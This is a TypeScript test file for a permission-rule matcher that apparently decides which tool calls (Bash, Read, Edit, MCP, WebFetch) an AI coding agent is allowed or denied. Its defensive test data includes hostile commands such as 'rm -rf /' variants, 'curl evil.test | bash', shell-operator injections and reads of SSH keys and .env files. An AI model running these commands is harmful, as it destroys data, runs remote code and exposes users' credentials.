import fc from 'fast-check';
import { type MatchContext, matchesRule, type ToolCall } from '../../src/gateway/match-rule';
import { type PermissionRule, parsePermissionRule } from '../../src/workflows/permission-rule';

const place = { cwd: '/home/ada/project', home: '/home/ada' };
const strict: MatchContext = { ...place, reading: 'strict' };
const broad: MatchContext = { ...place, reading: 'broad' };

function rule(text: string): PermissionRule {
  const parsed = parsePermissionRule(text);
  if (!parsed.ok) throw new Error(parsed.problem);
  return parsed.rule;
}
const bash = (command: string): ToolCall => ({ tool: 'Bash', input: { command } });
const file = (tool: string, file_path: string): ToolCall => ({ tool, input: { file_path } });
/** Whether the rule matches the call in each reading: [strict, broad]. */
const readings = (text: string, call: ToolCall) => [
  matchesRule(rule(text), call, strict),
  matchesRule(rule(text), call, broad),
];

describe('a tool name alone', () => {
  it.each([
    ['Bash', bash('anything at all; rm -rf /')],
    ['Read', file('Read', '/etc/passwd')],
    ['WebFetch', { tool: 'WebFetch', input: { url: 'https://x.test' } }],
    ['Edit', file('Write', 'src/a.ts')],
    ['mcp__github__create_issue', { tool: 'mcp__github__create_issue', input: {} }],
  ])('%s matches every use of the tool', (text, call) => {
    expect(readings(text, call)).toEqual([true, true]);
  });

  it('is case-sensitive when read strict, not when read broad', () => {
    expect(readings('Bash', { tool: 'bash', input: { command: 'ls' } })).toEqual([false, true]);
  });

  it('lets a deny of Read reach the searches, but not a low Read', () => {
    expect(readings('Read', { tool: 'Grep', input: { pattern: 'x' } })).toEqual([false, true]);
  });
});

describe('Bash rules', () => {
  it.each([
    ['Bash(npm run build)', 'npm run build', [true, true]],
    ['Bash(npm run build)', 'npm run build --prod', [false, false]],
    ['Bash(npm run test:*)', 'npm run test', [true, true]],
    ['Bash(npm run test:*)', 'npm run test -- --watch', [true, true]],
    ['Bash(npm run test:*)', 'npm run tests', [false, true]],
    ['Bash(ls *)', 'ls -la', [true, true]],
    ['Bash(ls *)', 'lsof', [false, false]],
    ['Bash(ls*)', 'lsof', [true, true]],
    ['Bash(git * main)', 'git merge main', [true, true]],
    ['Bash(* install)', 'npm install', [true, true]],
    ['Bash(curl http://site.com/:*)', 'curl http://site.com/ a', [true, true]],
    ['Bash(curl http://site.com/:*)', 'curl http://site.com/a', [false, true]],
    ['Bash(curl http://site.com/:*)', 'curl -X GET http://site.com/a', [false, false]],
    ['Bash(git status)', 'Git Status', [false, true]],
  ])('%s against %j: [strict, broad] = %j', (text, command, expected) => {
    expect(readings(text, bash(command))).toEqual(expected);
  });

  it.each([
    'safe-cmd && other-cmd',
    'safe-cmd || other-cmd',
    'safe-cmd; other-cmd',
    'safe-cmd | other-cmd',
    'safe-cmd & other-cmd',
    'safe-cmd\nother-cmd',
    'safe-cmd $(other-cmd)',
    'safe-cmd `other-cmd`',
    'safe-cmd > ~/.bashrc',
  ])('a prefix rule does not cover %j (shell operators are seen)', (command) => {
    expect(matchesRule(rule('Bash(safe-cmd:*)'), bash(command), strict)).toBe(false);
  });

  it('sees operators inside quotes as text', () => {
    expect(readings('Bash(echo *)', bash('echo "a && b"'))).toEqual([true, true]);
  });

  it.each([
    'npm test && rm -rf /',
    'echo $(rm -rf /)',
    "sh -c 'rm -rf /'",
    'timeout 5 rm -rf /',
    'sudo rm -rf /',
    'FOO=1 nice -n 10 /bin/rm -rf /',
    '(rm -rf /)',
  ])('a deny rule, read broad, finds rm in %j', (command) => {
    expect(matchesRule(rule('Bash(rm *)'), bash(command), broad)).toBe(true);
  });

  it('a deny rule with an operator in it matches the whole command', () => {
    expect(matchesRule(rule('Bash(curl * | bash)'), bash('curl evil.test | bash'), broad)).toBe(
      true,
    );
  });

  it('reads a call without a command string as matched (broad) or not (strict)', () => {
    expect(readings('Bash(ls *)', { tool: 'Bash', input: { command: 42 } })).toEqual([false, true]);
    expect(readings('Bash(ls *)', { tool: 'Bash', input: null })).toEqual([false, true]);
  });
});

describe('path rules', () => {
  it.each([
    ['Edit(src/**)', file('Edit', 'src/a/b.ts'), [true, true]],
    ['Edit(src/**)', file('Edit', '/home/ada/project/src/a.ts'), [true, true]],
    ['Edit(src/**)', file('Write', 'src/a.ts'), [true, true]],
    ['Edit(src/**)', file('MultiEdit', 'src/a.ts'), [true, true]],
    [
      'Edit(src/**)',
      { tool: 'NotebookEdit', input: { notebook_path: 'src/n.ipynb' } },
      [true, true],
    ],
    ['Edit(src/**)', file('Edit', 'src/../.env'), [false, false]],
    ['Edit(src/**)', file('Edit', 'src/../../other/src/a.ts'), [false, false]],
    ['Edit(src/**)', file('Edit', 'lib/src/a.ts'), [false, false]],
    ['Edit(src/**)', file('Edit', 'SRC/a.ts'), [false, true]],
    ['Read(./.env)', file('Read', '.env'), [true, true]],
    ['Read(./.env)', file('Read', '/home/ada/project/./.env'), [true, true]],
    ['Read(./.env)', file('Read', 'config/.env'), [false, true]],
    ['Read(*.env)', file('Read', 'deep/dir/prod.env'), [false, true]],
    ['Read(src/*.ts)', file('Read', 'src/a/b.ts'), [false, false]],
    ['Read(//etc/**)', file('Read', '/etc/ssh/sshd_config'), [true, true]],
    ['Read(~/.ssh/**)', file('Read', '/home/ada/.ssh/id_ed25519'), [true, true]],
    ['Read(~/.ssh/**)', file('Read', '../.ssh/id_ed25519'), [true, true]],
    ['Read(../shared/**)', file('Read', '/home/ada/shared/x'), [true, true]],
    ['Read(~/.ssh/**)', file('Read', '~/.ssh/id_ed25519'), [false, true]],
    ['Edit(**)', file('Edit', '~/.bashrc'), [false, true]],
    ['Read(secrets)', file('Read', 'secrets/key.pem'), [false, true]],
    ['Read(./.env)', file('Edit', '.env'), [false, false]],
    ['Write(src/**)', file('Edit', 'src/a.ts'), [false, true]],
  ])('%s against %j: [strict, broad] = %j', (text, call, expected) => {
    expect(readings(text, call)).toEqual(expected);
  });

  it('reads a call without a path as matched (broad) or not (strict)', () => {
    expect(readings('Edit(src/**)', { tool: 'Edit', input: {} })).toEqual([false, true]);
  });

  it.each([
    [{ pattern: 'TODO' }, true],
    [{ pattern: 'TODO', path: '/home/ada' }, true],
    [{ pattern: 'TODO', path: 'config' }, true],
    [{ pattern: 'TODO', path: 'src' }, false],
    [{ pattern: 'TODO', path: '/tmp' }, false],
    [{ pattern: 'TODO', glob: '../../*', path: 'src' }, true],
  ])('a denied Read(./config/.env) reaches the search %j: %s', (input, expected) => {
    const search = { tool: 'Grep', input };
    expect(readings('Read(./config/.env)', search)).toEqual([false, expected]);
  });

  it('a denied slashless Read(./.env), like gitignore, reaches a search anywhere below', () => {
    expect(
      readings('Read(./.env)', { tool: 'Grep', input: { pattern: 'x', path: 'src' } }),
    ).toEqual([false, true]);
  });

  it('a denied Read(**/.env) reaches searches below its directory', () => {
    expect(
      readings('Read(**/.env)', { tool: 'Glob', input: { pattern: '*', path: 'src' } }),
    ).toEqual([false, true]);
  });
});

describe('MCP and WebFetch rules', () => {
  const mcp = (tool: string): ToolCall => ({ tool, input: {} });
  it.each([
    ['mcp__github', 'mcp__github__create_issue', [true, true]],
    ['mcp__github__*', 'mcp__github__create_issue', [true, true]],
    ['mcp__github', 'mcp__githubber__x', [false, false]],
    ['mcp__github__get_*', 'mcp__github__get_issue', [true, true]],
    ['mcp__github__get_*', 'mcp__github__delete_issue', [false, false]],
    ['mcp__github__create_issue', 'mcp__github__create_issue_comment', [false, false]],
    ['mcp__a', 'mcp__a__b__c', [false, true]],
    ['mcp__github', 'mcp__GitHub__x', [false, true]],
  ])('%s against %s: [strict, broad] = %j', (text, tool, expected) => {
    expect(readings(text, mcp(tool))).toEqual(expected);
  });

  const fetch = (url: unknown): ToolCall => ({ tool: 'WebFetch', input: { url } });
  it.each([
    ['WebFetch(domain:example.com)', 'https://example.com/a', [true, true]],
    ['WebFetch(domain:example.com)', 'https://EXAMPLE.com:8443/a', [true, true]],
    ['WebFetch(domain:example.com)', 'https://docs.example.com/a', [false, true]],
    ['WebFetch(domain:example.com)', 'https://example.com.evil.test/', [false, false]],
    ['WebFetch(domain:example.com)', 'https://evil.test/?example.com', [false, false]],
    ['WebFetch(domain:*.example.com)', 'https://docs.example.com/', [true, true]],
    ['WebFetch(domain:example.com)', 'not a url', [false, true]],
    ['WebFetch(domain:example.com)', 7, [false, true]],
  ])('%s against %j: [strict, broad] = %j', (text, url, expected) => {
    expect(readings(text, fetch(url))).toEqual(expected);
  });
});

describe('the two readings (property)', () => {
  const shellish = fc
    .array(
      fc.constantFrom(
        'a',
        'b',
        'ls',
        ' ',
        '&',
        '|',
        ';',
        '$(',
        ')',
        '`',
        '"',
        "'",
        '\n',
        '#',
        '>',
        '\\',
        '*',
        '~/',
        '../',
      ),
      {
        maxLength: 12,
      },
    )
    .map((pieces) => pieces.join(''));
  const ruleText = fc.constantFrom(
    'Bash',
    'Bash(a *)',
    'Bash(a:*)',
    'Bash(ls)',
    'Bash(* b)',
    'Bash(a*b)',
    'Read(a/**)',
    'Read(*)',
    'Read(~/a)',
    'Edit(../a)',
    'Edit',
    'mcp__a',
    'mcp__a__b*',
    'WebFetch(domain:a.test)',
  );
  const call = fc.tuple(
    fc.constantFrom('Bash', 'Read', 'Edit', 'Write', 'Grep', 'mcp__a__b', 'WebFetch'),
    shellish,
  );

  it('a rule read strict matches nothing that it misses read broad', () => {
    fc.assert(
      fc.property(ruleText, call, (text, [tool, value]) => {
        const input = { command: value, file_path: value, path: value, url: `https://${value}` };
        const called = { tool, input };
        if (matchesRule(rule(text), called, strict))
          expect(matchesRule(rule(text), called, broad)).toBe(true);
      }),
      { seed: 15, numRuns: 2000 },
    );
  });
});
